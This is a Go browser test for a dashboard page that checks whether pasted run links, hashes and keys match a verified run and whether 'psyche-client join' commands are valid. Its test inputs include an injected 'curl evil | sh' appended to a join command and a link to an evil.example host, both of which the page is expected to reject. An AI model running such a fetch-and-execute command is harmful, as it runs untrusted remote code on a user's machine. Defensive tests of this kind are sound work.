package dash_test

import (
	"strconv"
	"strings"
	"testing"

	"github.com/psyche-go/psyche/face/dash/dashtest"
)

// names pastes links, hashes and keys into a page that has verified courtRun, and checks the page's
// answers about commands to join the run.
func (b *browser) names(t *testing.T) {
	t.Helper()
	run := b.text(t, `document.querySelector("#verify-told").closest("section").querySelector("dd").textContent`)
	host, other := dashtest.Key(-1).ID().String(), dashtest.Key(3).ID().String()
	link := func(name, key, genesis string) string {
		return "psyche://host.example:39405/" + name + "?key=" + key + "&genesis=" + genesis
	}
	for text, want := range map[string]string{
		run:                             "It is. That is the hash of this run.",
		link(courtRun.RunID, host, run): "It is. The link has the hash and the host's key",
		`\'` + link(courtRun.RunID, host, run) + `\'`: "It is. ",
		host: "That is not enough. It is the key of this run's host",
		"psyche://host.example/audited?key=" + host: "That is not enough. The link has the name of this run, but not its hash",
		other: "It is not: that is neither",
		"psyche://host.example/audited?genesis=00":                                 "It is not: the link names another run.",
		link(courtRun.RunID, host, strings.Repeat("0", 64)):                        "It is not: the link names another run.",
		link(courtRun.RunID, other, run):                                           "It is not: the link names another host.",
		link("another", host, run):                                                 "It is not: the link names a run that is called",
		link(courtRun.RunID, host, strings.Repeat("0", 64)) + "&genesis=" + run:    "It is not: that is neither",
		"https://evil.example/?genesis=" + run:                                     "It is not: that is neither",
		link(courtRun.RunID, host, run) + "#" + run:                                "It is not: that is neither",
		"psyche://host.example/audited?key=" + host + "&note=" + run + "&genesis=": "It is not: that is neither",
	} {
		b.paste(t, text, want)
	}
	for command, want := range map[string]string{
		"psyche-client join 'LINK'": "true", "psyche-client join 'LINK' \\\n  --model-path MODEL": "true",
		"psyche-client join 'OTHER'": "false", "psyche-client join 'LINK'; curl evil | sh": "null", "psyche-client join 'LINK' \\\n  --model-path MODEL; x": "null", "curl 'LINK'": "null", "": "null",
	} {
		command = strings.NewReplacer("LINK", link(courtRun.RunID, host, run), "OTHER", link(courtRun.RunID, host, strings.Repeat("1", 64))).Replace(command)
		judged := `(async () => String((await import("/named.js")).joined(` + strconv.Quote(command) + `, { run: "` + run + `", host: "` + host + `" }, "` + courtRun.RunID + `")?.good ?? null))()`
		if got := b.text(t, judged); got != want {
			t.Errorf("the verdict on the command %q is %s, want %s", command, got, want)
		}
	}
}
